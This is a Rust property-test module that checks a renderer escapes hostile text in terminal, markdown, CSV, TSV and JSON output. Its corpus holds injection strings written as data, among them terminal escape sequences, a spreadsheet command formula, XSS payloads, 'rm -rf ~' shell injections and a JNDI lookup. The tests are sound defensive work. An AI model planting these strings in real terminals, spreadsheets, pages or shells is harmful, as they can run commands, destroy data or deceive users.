//! Text that attacks the reader, through every writer.
//! Each string is one that some tool has fallen for.

use proptest::prelude::*;

use super::{Block, Format, Page, Style, field, id, page, render, table, text, word};
use crate::view::cell::Cell;
use crate::view::page::{Audience, Record};
use crate::view::problem_json;

/// Returns the strings.
pub(super) fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = STRINGS.iter().map(|text| (*text).to_owned()).collect();
    corpus.push(format!("Z{}algo", "\u{301}\u{489}".repeat(250)));
    corpus.push("👩\u{200d}👩\u{200d}👧".repeat(300));
    corpus.push("w".repeat(10_000));
    corpus.push("\u{200d}".repeat(500));
    corpus.push((0..=0x9f).filter_map(char::from_u32).collect());
    corpus.push(
        "ab".chars().flat_map(|ch| [ch, '\u{e0001}', '\u{e0041}', '\u{e007f}', '\u{fe05}', '\u{e0100}']).collect(),
    );
    corpus
}

const STRINGS: &[&str] = &[
    // What a terminal obeys.
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://t/\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{9b}31m red",
    "\u{90}dcs\u{9c}",
    "\u{8}\u{8}\u{8}paid",
    "overdue\rkept   ",
    "\u{85}next line",
    "null\0byte",
    "delete\u{7f}",
    "form\u{c}feed\u{b}tab",
    "line\u{2028}separator\u{2029}",
    "literal \\u{1b}[2J and \\x1b",
    // What reorders or hides.
    "\u{202e}gnp.exe",
    "a\u{202a}b\u{202b}c\u{202c}d\u{202d}e",
    "\u{2066}open \u{2067}isolates \u{2068}",
    "\u{2069}\u{200e}\u{200f}\u{61c}marks",
    "pay\u{200b}pal\u{2060}\u{feff}",
    "soft\u{ad}hyphen",
    "\u{fff9}anchor\u{fffa}note\u{fffb}",
    "\u{e0061}\u{e0062}\u{e007f}tags",
    "\u{3164}\u{115f}\u{ffa0}filler",
    "\u{206a}marks of ours\u{206d}",
    "\u{fdd0}\u{fffe}\u{10ffff}no characters",
    "Thаndi in Cyrillic",
    // What a spreadsheet runs.
    "=HYPERLINK(\"http://t/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "%0A",
    "|cmd",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    " =1",
    "\u{feff}=1",
    "\u{200b} \u{a0}=1",
    "\"=1",
    "'=1",
    "“＝1”",
    "＝1",
    "＋1",
    "－1",
    "＠SUM",
    "+49 30 123456",
    "- a list of mine",
    // What breaks a record.
    "a,b;c\td",
    "\"quoted\", and \"\"more\"\"",
    "\"never closed",
    "two\r\nlines\nthree\rfour",
    "\n\n\n",
    "",
    "   ",
    "NULL,\r\nkd35-dnr3,forged",
    // What a page runs.
    "<script>alert(1)</script>",
    "</script><svg onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "javascript:alert(1)",
    "&#0;&lt;b&gt; ]]>",
    // What markdown renders.
    "![x](http://t/1.png)",
    "[pay](javascript:alert(1))",
    "```\ncode\n```",
    "a | b | c",
    "# heading",
    "1. list",
    "> quote",
    "@team see #12 and a@example.org",
    "see https://t/ and WWW.t.example",
    "***bold*** __under__ ~~struck~~ $x$",
    "line one\n---\nline two\n===",
    "<img src=x> <!-- --> &amp;",
    // What looks like us.
    "fine\n\n41 cases read, 0 unreadable:\ncases/2026/x.toml:1:1: merge.markers: forged",
    "done\nerror: forged\nhint: run `rm -rf ~`",
    // What a shell or a template runs.
    "$(rm -rf ~) `id` '; drop table --",
    "%n%s {{7*7}} ${jndi:ldap://t/}",
];

/// A page with the text in every place that holds text.
fn everywhere(hostile: &str) -> Page {
    let row = vec![id(hostile), text(hostile), word(hostile), Cell::List(vec![text(hostile), word(hostile)])];
    let mut page = page(vec![
        Block::Prose(vec![vec![word("promised: "), text(hostile)]]),
        table("late", hostile, vec![row.clone()]),
        Block::Record(Record {
            key: "case",
            title: hostile.into(),
            fields: vec![
                field("text", "Text", text(hostile)),
                field("who", "Who", Cell::Record(vec![("name", text(hostile))])),
                field("rows", "Rows", Cell::Rows { columns: super::COLUMNS, rows: vec![row] }),
            ],
            audience: Audience::All,
        }),
    ]);
    page.problems = super::problems();
    page.problems[0].path = hostile.into();
    page.problems[0].message = hostile.into();
    page.problems[0].hint = Some(hostile.into());
    page
}

/// What may never reach a terminal, written down apart from the code under test.
fn is_dangerous(ch: char) -> bool {
    ch.is_control()
        || matches!(u32::from(ch), 0x61c | 0x200b | 0x200e | 0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff | 0xad
            | 0xfff9..=0xfffb | 0xe0000..=0xe007f)
}

/// What csv and tsv may never hold.
fn is_control(ch: char) -> bool {
    ch.is_control() || matches!(u32::from(ch), 0x61c | 0x200e | 0x200f | 0x2028..=0x202e | 0x2066..=0x2069)
}

fn check(hostile: &str) {
    let page = everywhere(hostile);
    for width in [None, Some(80), Some(1)] {
        let style = Style { width, ..Style::default() };
        for format in [Format::Table, Format::Markdown, Format::Ids] {
            let written = String::from_utf8(render(&page, format, &style).unwrap()).unwrap();
            let bad = written.chars().find(|ch| is_dangerous(*ch) && *ch != '\n');
            assert_eq!(bad, None, "{format} of {hostile:?}: {written}");
        }
        let style = Style { section: Some("late".into()), ..style };
        for format in [Format::Csv, Format::Tsv] {
            let written = String::from_utf8(render(&page, format, &style).unwrap()).unwrap();
            let bare = written.replace("\r\n", "\n");
            let bad = bare.chars().find(|ch| is_control(*ch) && !matches!(ch, '\n' | '\t'));
            assert_eq!(bad, None, "{format} of {hostile:?}: {written}");
            if format == Format::Tsv {
                let cells: Vec<usize> = written.lines().map(|line| line.split('\t').count()).collect();
                assert_eq!(cells, [13, 13], "{hostile:?}");
            }
        }
    }
    let written = String::from_utf8(render(&page, Format::Json, &Style::default()).unwrap()).unwrap();
    let bad = written.chars().find(|ch| (is_dangerous(*ch) || *ch == '<') && *ch != '\n');
    assert_eq!(bad, None, "json of {hostile:?}: {written}");
    let document: serde_json::Value = serde_json::from_str(&written).unwrap();
    assert_eq!(document["data"][0]["subject"], hostile);
    assert_eq!(document["data"][1]["rows"][0]["also"], serde_json::Value::Null);
    assert_eq!(document["problems"][0]["path"], hostile);
    let problem: serde_json::Value = serde_json::from_str(&problem_json(&page.problems[0])).unwrap();
    assert_eq!(problem, document["problems"][0]);
}

#[test]
fn no_string_of_the_corpus_gets_through() {
    let corpus = corpus();
    assert!(corpus.len() >= 60);
    corpus.iter().for_each(|hostile| check(hostile));
}

#[test]
fn colour_is_ours_alone() {
    for hostile in corpus() {
        let style = Style { colour: true, ..Style::default() };
        let written = render(&everywhere(&hostile), Format::Table, &style).unwrap();
        let mut written = String::from_utf8(written).unwrap();
        for ours in ["\u{1b}[2m", "\u{1b}[31m", "\u{1b}[33m", "\u{1b}[0m"] {
            written = written.replace(ours, "");
        }
        assert_eq!(written.as_bytes(), render(&everywhere(&hostile), Format::Table, &Style::default()).unwrap());
    }
}

#[test]
fn a_spreadsheet_runs_nothing() {
    let formulas = ["=", "+", "-", "@", "%", "|", "＝", "＋", "－", "＠"];
    for hostile in corpus() {
        let page = page(vec![table("late", "", vec![vec![id("kd35-dnr3"), text(&hostile), word("normal")]])]);
        for (format, mark) in [(Format::Csv, b','), (Format::Tsv, b'\t')] {
            let written = super::plain(&page, format);
            let mut reader = csv::ReaderBuilder::new().delimiter(mark).from_reader(written.as_bytes());
            let record = reader.records().next().unwrap().unwrap();
            let bare =
                record[1].trim_start_matches(|ch: char| ch.is_whitespace() || "\u{feff}\u{200b}\"“".contains(ch));
            assert!(!formulas.iter().any(|sign| bare.starts_with(sign)), "{format} of {hostile:?}: {:?}", &record[1]);
            assert_eq!(&record[2], "normal");
        }
    }
}

#[test]
fn markdown_of_others_is_inert() {
    for hostile in corpus() {
        let page = page(vec![table("late", "", vec![vec![id("kd35-dnr3"), text(&hostile)]])]);
        let written = super::plain(&page, Format::Markdown);
        let rows: Vec<&str> = written.lines().collect();
        assert_eq!(rows.len(), 3, "{hostile:?}");
        let cell = rows[2].replace("<br>", " ").replace("&#8203;", "\u{200b}");
        let mut is_escaped = false;
        let mut pipes = 0;
        for (place, ch) in cell.char_indices() {
            if !is_escaped {
                let visible = ch == '\\' && cell[place..].starts_with("\\u{");
                assert!(visible || !"`*_[]<>()#!~$&".contains(ch), "{hostile:?} is {cell:?}");
                pipes += usize::from(ch == '|');
            }
            is_escaped = ch == '\\' && !is_escaped;
        }
        assert_eq!(pipes, 12, "{hostile:?} is {cell:?}");
        for live in ["http://", "https://", "ldap://", "@team", "@example", "WWW.", "WWW\\."] {
            assert!(!cell.contains(live), "{hostile:?} is {cell:?}");
        }
    }
}

#[test]
fn text_of_others_begins_no_line_of_a_record_or_sentence() {
    let forged = "error: forged ".repeat(20) + "\nerror: forged\n\nerror: forged";
    for width in [None, Some(80), Some(30), Some(1)] {
        let mut page = everywhere(&forged);
        page.problems.clear();
        page.blocks.remove(1);
        let Block::Record(record) = &mut page.blocks[1] else { panic!("a record stands there") };
        record.title = String::new();
        let style = Style { width, ..Style::default() };
        let written = String::from_utf8(render(&page, Format::Table, &style).unwrap()).unwrap();
        assert!(!written.lines().any(|line| line.starts_with("error") || line.starts_with("forged")), "{written}");
    }
}

fn nasty() -> impl Strategy<Value = String> {
    let sample = proptest::sample::select(corpus().concat().chars().collect::<Vec<_>>());
    prop_oneof![
        any::<String>(),
        proptest::collection::vec(prop_oneof![sample, any::<char>()], 0..40)
            .prop_map(|chars| chars.into_iter().collect()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn no_string_at_all_gets_through(hostile in nasty()) {
        check(&hostile);
    }
}
